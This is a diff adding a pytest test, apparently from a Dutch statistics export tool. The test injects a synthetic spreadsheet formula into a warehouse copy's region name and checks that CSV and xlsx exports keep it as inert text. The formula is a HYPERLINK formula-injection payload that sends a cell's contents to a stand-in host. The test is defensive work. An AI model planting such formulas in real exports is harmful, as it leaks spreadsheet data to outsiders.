@@ -86,3 +86,54 @@ def test_live_mode_talks_https_to_cbs_only(tmp_path, request):
         expected="refused at start-up; only a local test server may use HTTP",
         seen=str(err.value),
     )
+
+
+HOSTILE_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Zwolle")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_region_name_that_is_a_formula_stays_text_in_exports(
+    warehouse_path, tmp_path, monkeypatch, fmt, request
+):
+    """SYNTHETIC hostile name: Zwolle's name in a copy of the warehouse replaced by a formula,
+    as a source file could deliver it."""
+    import shutil
+
+    import openpyxl
+    import pandas as pd
+
+    copy = tmp_path / "hostile.duckdb"
+    shutil.copyfile(warehouse_path, copy)
+    con = duckdb.connect(str(copy))
+    for (table,) in con.execute(
+        "select table_schema || '.' || table_name from information_schema.columns "
+        "where table_schema = 'marts' and column_name = 'region_name' "
+        "and table_name in (select table_name from duckdb_tables())"
+    ).fetchall():
+        con.execute(
+            f"update {table} set region_name = ? where region_code = 'GM0193'", [HOSTILE_NAME]
+        )
+    con.close()
+    monkeypatch.setenv("ONTCIJFERD_WAREHOUSE", str(copy))
+    out = tmp_path / "out"
+    args = ["export", "bevolking_totaal", "--regions", "GM0193", "--format", fmt, "--out", str(out)]
+    assert main(args) == EXIT_OK
+    [data] = [p for p in out.iterdir() if p.suffix == f".{fmt}"]
+    if fmt == "csv":
+        names = set(pd.read_csv(data)["region_name"])
+        assert names == {"'" + HOSTILE_NAME}  # OWASP: a leading ' so it is never run
+        seen = f"CSV cell: {next(iter(names))}"
+    else:
+        sheet = openpyxl.load_workbook(data).worksheets[0]
+        header = [c.value for c in sheet[1]]
+        cell = sheet.cell(2, header.index("region_name") + 1)
+        assert (cell.value, cell.data_type) == (HOSTILE_NAME, "s")  # text, not a formula
+        seen = f"xlsx cell type {cell.data_type!r} (text), value shown as it is"
+    reliability_row(
+        request,
+        side="security",
+        fault=f"a region name that is a formula, exported as {fmt}",
+        injected=f"region_name {HOSTILE_NAME!r} (SYNTHETIC, in a copy of the warehouse)",
+        expected="the cell stays text: never a formula in the spreadsheet",
+        seen=seen,
+    )
